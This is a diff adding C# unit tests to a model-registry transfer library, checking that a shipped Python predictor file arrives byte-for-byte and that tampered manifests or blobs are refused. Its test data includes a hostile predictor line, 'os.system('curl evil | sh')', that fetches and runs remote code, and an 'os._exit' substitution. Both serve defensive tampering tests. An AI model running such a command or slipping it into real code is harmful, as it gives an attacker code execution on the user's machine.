@@ -185,4 +185,86 @@ public sealed class ModelTransferTests : IAsyncLifetime
         Assert.Equal("KILN7930", e.Code);
         Assert.Contains("registry.attacker.example", e.Message);
     }
+
+    private const string Predictor = "def predict(inputs):\n    return inputs\n";
+
+    private static ModelLineage WithPredictor() => Lineage() with
+    {
+        Serve = new ModelServeBundle("predict.py", Digest.Sha256(Predictor), Predictor.Length, 2),
+    };
+
+    private async Task PushWithPredictorAsync()
+    {
+        var file = Path.Combine(_dir.Path, Guid.NewGuid().ToString("N"));
+        await File.WriteAllTextAsync(file, Artifact);
+        using var client = Client();
+        await ModelTransfer.PushAsync(client, "iris-v3", WithPredictor() with { EnvironmentRepository = client.Where }, file,
+            System.Text.Encoding.UTF8.GetBytes(Predictor), CancellationToken.None);
+    }
+
+    private async Task FetchPredictorAsync(ModelLineage lineage, string into)
+    {
+        using var client = Client();
+        await ModelTransfer.FetchPredictorAsync(client, lineage, into, CancellationToken.None);
+    }
+
+    [Fact]
+    public async Task APredictorTravelsWithTheVersionByteForByte()
+    {
+        await PushWithPredictorAsync();
+        var head = await PullAsync();
+        Assert.Equal(WithPredictor().Serve, head.Lineage.Serve);
+        var (manifest, _) = await PushedManifestAsync();
+        Assert.Equal(ModelTransfer.PredictorMediaType, manifest["layers"]![1]!["mediaType"]!.GetValue<string>());
+        var into = Path.Combine(_dir.Path, "predictor");
+        await FetchPredictorAsync(head.Lineage, into);
+        Assert.Equal(Predictor, await File.ReadAllTextAsync(into));
+    }
+
+    [Fact]
+    public async Task ARegistryThatAnswersOtherBytesForThePredictorIsRefused()
+    {
+        await PushWithPredictorAsync();
+        var head = await PullAsync();
+        // Same length, other bytes: a predictor that would run the attacker's code. Only the hash can tell.
+        await File.WriteAllTextAsync(_registry.BlobDataPath(Digest.Sha256(Predictor)), Predictor.Replace("return inputs", "os._exit(666)"));
+        var into = Path.Combine(_dir.Path, "predictor");
+        var e = await Assert.ThrowsAsync<KilnException>(() => FetchPredictorAsync(head.Lineage, into));
+        Assert.Equal("KILN7923", e.Code);
+        Assert.False(File.Exists(into));
+    }
+
+    [Fact]
+    public async Task AManifestNamingAnotherPredictorThanItsLineageIsRefused()
+    {
+        await PushWithPredictorAsync();
+        var (manifest, _) = await PushedManifestAsync();
+        var hostile = "import os; os.system('curl evil | sh')"u8.ToArray();
+        var other = await PutBlobAsync(hostile);
+        manifest["layers"]![1]!["digest"] = other.ToString();
+        manifest["layers"]![1]!["size"] = hostile.Length;
+        await PutManifestAsync("iris-v3", manifest);
+        Assert.Equal("KILN7931", (await RefusedAsync()).Code);
+    }
+
+    [Fact]
+    public async Task APredictorLayerTheLineageDoesNotNameOrTheOtherWayRoundIsNotAModel()
+    {
+        await PushWithPredictorAsync();
+        var (manifest, _) = await PushedManifestAsync();
+        var withoutPredictor = (JsonObject)manifest.DeepClone();
+        ((JsonArray)withoutPredictor["layers"]!).RemoveAt(1);
+        await PutManifestAsync("iris-v3", withoutPredictor);
+        Assert.Contains("does not carry", (await RefusedAsync()).Message);
+
+        await PushAsync(Lineage(), tag: "plain");
+        var (plain, _) = await PushedManifestAsync("plain");
+        ((JsonArray)plain["layers"]!).Add(manifest["layers"]![1]!.DeepClone());
+        await PutManifestAsync("plain", plain);
+        Assert.Contains("does not name", (await RefusedAsync("plain")).Message);
+
+        ((JsonArray)plain["layers"]!).Add(manifest["layers"]![1]!.DeepClone()); // three layers
+        await PutManifestAsync("plain", plain);
+        Assert.Equal("KILN7930", (await RefusedAsync("plain")).Code);
+    }
 }
